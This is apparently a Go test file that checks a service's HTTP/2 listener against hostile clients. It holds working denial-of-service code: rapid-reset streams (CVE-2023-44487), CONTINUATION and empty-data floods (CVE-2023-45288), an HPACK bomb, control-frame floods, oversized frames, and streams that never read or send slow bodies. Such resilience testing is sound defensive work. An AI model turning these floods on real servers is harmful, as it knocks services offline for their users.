package main

import (
	"bufio"
	"bytes"
	"errors"
	"io"
	"maps"
	"net/http"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"attestcsr/keystore/keystoretest"
)

// framesOut is a connection on which a client of ours breaks the rules of HTTP/2,
// or keeps to them in ways that nobody means well with.
type framesOut struct {
	*http2.Framer
	conn   io.Closer
	out    *bufio.Writer // what is written waits for its Flush
	block  bytes.Buffer
	encode *hpack.Encoder
	stream uint32 // last one opened
}

func (v *victim) frames(t *testing.T, source int, settings ...http2.Setting) *framesOut {
	t.Helper()
	c, err := v.secure(t, source, hostileTLS("h2"))
	if err != nil {
		t.Error(err)
		return nil
	}
	if err := c.SetDeadline(time.Now().Add(time.Minute)); err != nil {
		t.Error(err)
		return nil
	}
	f := &framesOut{conn: c, out: bufio.NewWriterSize(c, 16<<10)}
	f.Framer = http2.NewFramer(f.out, c)
	f.AllowIllegalWrites = true
	f.encode = hpack.NewEncoder(&f.block)
	_, err = f.out.WriteString(http2.ClientPreface)
	if err = errors.Join(err, f.WriteSettings(settings...), f.out.Flush()); err != nil {
		t.Error(err)
		return nil
	}
	return f
}

// header encodes the header of a request.
func (f *framesOut) header(method, path string, more ...string) []byte {
	f.block.Reset()
	fields := append([]string{":method", method, ":scheme", "https", ":authority", "x", ":path", path}, more...)
	for i := 0; i < len(fields); i += 2 {
		_ = f.encode.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]}) // into memory
	}
	return f.block.Bytes()
}

func (f *framesOut) open(end bool, block []byte) error {
	f.stream = max(1, f.stream+2)
	if f.stream%2 == 0 {
		f.stream++
	}
	return f.WriteHeaders(http2.HeadersFrameParam{StreamID: f.stream, BlockFragment: block, EndStream: end, EndHeaders: true})
}

// discard reads what the server says until it closes, and returns its last word.
func (f *framesOut) discard() (goAway http2.ErrCode, said bool) {
	for {
		frame, err := f.ReadFrame()
		if err != nil {
			return goAway, said
		}
		if last, is := frame.(*http2.GoAwayFrame); is {
			goAway, said = last.ErrCode, true
		}
	}
}

// pace gives the honest clients, which run on the same processors as the hostile
// ones, a chance to be measured: some ten thousand frames a second go out.
func (f *framesOut) pace(n int) error {
	if n%100 > 0 {
		return nil
	}
	time.Sleep(5 * time.Millisecond)
	return f.out.Flush()
}

// rapidReset opens streams and resets them at once (CVE-2023-44487), over one
// connection after the other.
func rapidReset(t *testing.T, v *victim) {
	var streams atomic.Int64
	cut := v.metric(t, `attestcsr_connections_cut_total{listener="api"}`)
	each(keystoretest.Effort(60, 2000), 4, func(i int) {
		time.Sleep(50 * time.Millisecond)
		f := v.frames(t, i%20)
		if f == nil {
			return
		}
		done := make(chan struct{})
		go func() {
			defer close(done)
			f.discard()
		}()
		for n := range 2000 {
			err := f.pace(n)
			err = errors.Join(err, f.open(true, f.header("GET", csrPath, "vmware-api-session-id", v.session)))
			if err = errors.Join(err, f.WriteRSTStream(f.stream, http2.ErrCodeCancel)); err != nil {
				break
			}
			streams.Add(1)
		}
		_ = f.out.Flush() // the server may have closed already
		_ = f.conn.Close()
		<-done
	})
	keystoretest.Count(t, "streams reset", int(streams.Load()))
	keystoretest.Count(t, "connections cut for resets", v.metric(t, `attestcsr_connections_cut_total{listener="api"}`)-cut)
}

// controlFrames sends frames that the server has to answer, and reads no answer
// on every other connection.
func controlFrames(t *testing.T, v *victim) {
	var sent atomic.Int64
	floods := map[string]func(f *framesOut, i int) error{
		"settings": func(f *framesOut, i int) error {
			return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i)})
		},
		"ping": func(f *framesOut, _ int) error { return f.WritePing(false, [8]byte{}) },
		"table size": func(f *framesOut, i int) error {
			return f.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: uint32(i % 2 * 1 << 20)})
		},
		"window update": func(f *framesOut, _ int) error { return f.WriteWindowUpdate(0, 1) },
		"priority": func(f *framesOut, i int) error {
			return f.WritePriority(uint32(2*i+1), http2.PriorityParam{StreamDep: 0, Weight: 1})
		},
		"unknown": func(f *framesOut, _ int) error { return f.WriteRawFrame(0xfe, 0, 0, nil) },
	}
	for _, flood := range floods {
		each(keystoretest.Effort(2, 40), 2, func(i int) {
			f := v.frames(t, i)
			if f == nil {
				return
			}
			done := make(chan struct{})
			go func() {
				defer close(done)
				if i%2 == 0 {
					f.discard()
				}
			}()
			for n := range 10_000 {
				if err := errors.Join(f.pace(n), flood(f, n)); err != nil {
					break
				}
				sent.Add(1)
			}
			_ = f.out.Flush() // the server may have closed already
			_ = f.conn.Close()
			<-done
		})
	}
	keystoretest.Count(t, "hostile control frames", int(sent.Load()))
}

// headerBlocks never ends the header of a request (CVE-2023-45288), sends one
// that a few bytes make large, frames that are too large, and headers that are.
func headerBlocks(t *testing.T, v *victim) {
	var tried, sent atomic.Int64
	ends := func(f *framesOut) bool {
		ended := make(chan struct{})
		go func() {
			defer close(ended)
			f.discard()
		}()
		select {
		case <-ended:
			return true
		case <-time.After(20 * time.Second):
			return false
		}
	}
	attacks := map[string]func(f *framesOut){
		"continuation": func(f *framesOut) {
			err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.header("GET", csrPath)})
			for i := 0; err == nil && i < 4_000; i++ {
				f.block.Reset()
				_ = f.encode.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("a", 1000), Sensitive: true}) // into memory
				err = errors.Join(f.pace(i), f.WriteContinuation(1, false, f.block.Bytes()))
				sent.Add(1)
			}
		},
		"empty continuation": func(f *framesOut) {
			err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.header("GET", csrPath)})
			for i := 0; err == nil && i < 4_000; i++ {
				err = errors.Join(f.pace(i), f.WriteContinuation(1, false, nil))
				sent.Add(1)
			}
		},
		"slow header": func(f *framesOut) {
			_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.header("GET", csrPath)})
		},
		"HPACK bomb": func(f *framesOut) {
			long := strings.Repeat("a", 3900)
			err := f.open(true, f.header("GET", csrPath, "x", long))
			for range 100 {
				if err != nil {
					return
				}
				more := make([]string, 0, 20_000)
				for range 10_000 {
					more = append(more, "x", long) // one byte each
				}
				err = f.open(true, f.header("GET", csrPath, more...))
			}
		},
		"large frame": func(f *framesOut) { _ = f.WriteRawFrame(http2.FrameData, 0, 1, make([]byte, 1<<20)) },
		"empty data": func(f *framesOut) {
			err := f.open(false, f.header("POST", csrPath, "content-type", "application/json", "vmware-api-session-id", v.session))
			for i := 0; err == nil && i < 4_000; i++ {
				err = errors.Join(f.pace(i), f.WriteData(f.stream, false, nil))
				sent.Add(1)
			}
		},
	}
	names := slices.Sorted(maps.Keys(attacks))
	each(len(names)*keystoretest.Effort(8, 100), 48, func(i int) {
		name := names[i%len(names)]
		f := v.frames(t, i)
		if f == nil {
			return
		}
		defer f.conn.Close()
		attacks[name](f)
		_ = f.out.Flush() // the server may have closed already
		tried.Add(1)
		if !ends(f) {
			t.Errorf("%s: the connection goes on", name)
		}
	})
	status, _, err := v.do("GET", csrPath+"?"+strings.Repeat("a", 64<<10), "", v.session)
	if err == nil && status != http.StatusRequestHeaderFieldsTooLarge {
		t.Errorf("a huge header over HTTP/2: %d", status)
	}
	keystoretest.Count(t, "hostile header blocks", int(tried.Load()))
	keystoretest.Count(t, "hostile continuation and data frames", int(sent.Load()))
}

// streamsThatNeverRead asks for long lists on all streams that there may be and
// gives no window for the answers.
func streamsThatNeverRead(t *testing.T, v *victim) {
	var streams atomic.Int64
	var wg sync.WaitGroup
	for i := range keystoretest.Effort(8, 200) {
		wg.Go(func() {
			f := v.frames(t, i, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
			if f == nil {
				return
			}
			for range 100 {
				if err := f.open(true, f.header("GET", nsxPath+"/csrs", "authorization", "Basic "+basic(v))); err != nil {
					break
				}
				streams.Add(1)
			}
			if err := f.out.Flush(); err != nil {
				t.Error(err)
			}
			resets := 0
			for {
				frame, err := f.ReadFrame()
				if err != nil {
					break
				}
				if _, is := frame.(*http2.RSTStreamFrame); is {
					resets++
				}
				if resets == 100 {
					break
				}
			}
			_ = f.conn.Close()
		})
	}
	wg.Wait()
	keystoretest.Count(t, "streams that never read", int(streams.Load()))
}

// streamsWithSlowBodies holds as many bodies open as there may be streams.
func streamsWithSlowBodies(t *testing.T, v *victim) {
	var streams, answers atomic.Int64
	var wg sync.WaitGroup
	for i := range keystoretest.Effort(20, 100) {
		wg.Go(func() {
			f := v.frames(t, i%4)
			if f == nil {
				return
			}
			defer f.conn.Close()
			for range 100 {
				err := f.open(false, f.header("POST", csrPath, "content-type", "application/json", "vmware-api-session-id", v.session))
				if err = errors.Join(err, f.WriteData(f.stream, false, make([]byte, 500))); err != nil {
					break
				}
				streams.Add(1)
			}
			if err := f.out.Flush(); err != nil {
				t.Error(err)
			}
			deadline := time.Now().Add(20 * time.Second)
			for n := 0; n < 100; {
				frame, err := f.ReadFrame()
				if err != nil {
					break
				}
				switch frame := frame.(type) {
				case *http2.HeadersFrame:
					answers.Add(1)
				case *http2.RSTStreamFrame:
					n++
				case *http2.DataFrame:
					if frame.StreamEnded() {
						n++
					}
				}
				if time.Now().After(deadline) {
					t.Error("bodies may take twenty seconds where four are allowed")
					return
				}
			}
		})
	}
	wg.Wait()
	keystoretest.Count(t, "streams with slow bodies", int(streams.Load()))
	t.Logf("%d answers", answers.Load())
}
